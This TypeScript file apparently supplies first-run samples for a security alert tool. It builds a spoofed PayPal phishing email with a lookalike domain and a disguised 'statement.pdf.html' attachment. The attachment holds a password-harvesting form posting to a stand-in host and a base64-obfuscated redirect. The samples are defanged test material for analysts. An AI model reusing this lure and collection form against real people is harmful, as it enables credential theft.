export interface Sample {
  readonly id: 'mail' | 'domain' | 'ip'
  readonly dataType: string
  readonly value: () => string | File
  readonly shown: string
}

/** Samples: names and addresses of the ranges that are reserved for documentation and tests. */
export const samples: readonly Sample[] = [
  {
    id: 'mail',
    dataType: 'file',
    value: () => new File([mail], 'account locked.eml', { type: 'message/rfc822' }),
    shown: 'account locked.eml',
  },
  {
    id: 'domain',
    dataType: 'domain',
    value: () => 'paypa1-login.test',
    shown: 'paypa1-login[.]test',
  },
  { id: 'ip', dataType: 'ip', value: () => '198.51.100.77', shown: '198[.]51[.]100[.]77' },
]

const page = `<html><body><p>Sign in to read the statement.</p>
<form action="https://paypa1-login.test/collect" method="post">
<input name="user"><input name="password" type="password"></form>
<script>location = atob('aHR0cHM6Ly9wYXlwYTEtbG9naW4udGVzdC92ZXJpZnk=')</script></body></html>
`

const mail = [
  'Return-Path: <bounce@mailer.test>',
  'Received: from mx.mailer.test (mx.mailer.test [198.51.100.77]) by mail.example.com with ESMTPS id 4XyZ; Mon, 16 Nov 2026 07:12:44 +0000',
  'Authentication-Results: mail.example.com; spf=fail smtp.mailfrom=mailer.test; dkim=none; dmarc=fail header.from=paypal.com',
  'From: "PayPal Security" <security@paypal.com>',
  'Reply-To: help@paypa1-login.test',
  'To: ada@example.com',
  'Subject: Your account is locked',
  'Date: Mon, 16 Nov 2026 07:12:40 +0000',
  'Message-ID: <1@mailer.test>',
  'MIME-Version: 1.0',
  'Content-Type: multipart/mixed; boundary="part"',
  '',
  '--part',
  'Content-Type: text/html; charset=utf-8',
  '',
  '<p>We noticed a sign-in from 198.51.100.77. Confirm your account within 24 hours:</p>',
  '<p><a href="https://paypa1-login.test/verify">https://www.paypal.com/signin</a></p>',
  '',
  '--part',
  'Content-Type: text/html; name="statement.pdf.html"',
  'Content-Disposition: attachment; filename="statement.pdf.html"',
  'Content-Transfer-Encoding: base64',
  '',
  btoa(page),
  '--part--',
  '',
].join('\r\n')

/** The alert for the mail, so the list of alerts is not empty at the first look. */
export const sampleAlert = {
  title: 'Reported email: “Your account is locked”',
  description: 'A colleague forwarded this email. It is a harmless sample from the first run.',
  type: 'phishing',
  source: 'first run',
  sourceRef: 'sample-mail',
  severity: 2,
  tags: ['sample'],
  artifacts: [
    { dataType: 'mail', data: 'security@paypal.com' },
    { dataType: 'domain', data: 'paypa1-login.test' },
    { dataType: 'url', data: 'https://paypa1-login.test/verify' },
    { dataType: 'ip', data: '198.51.100.77' },
  ],
}
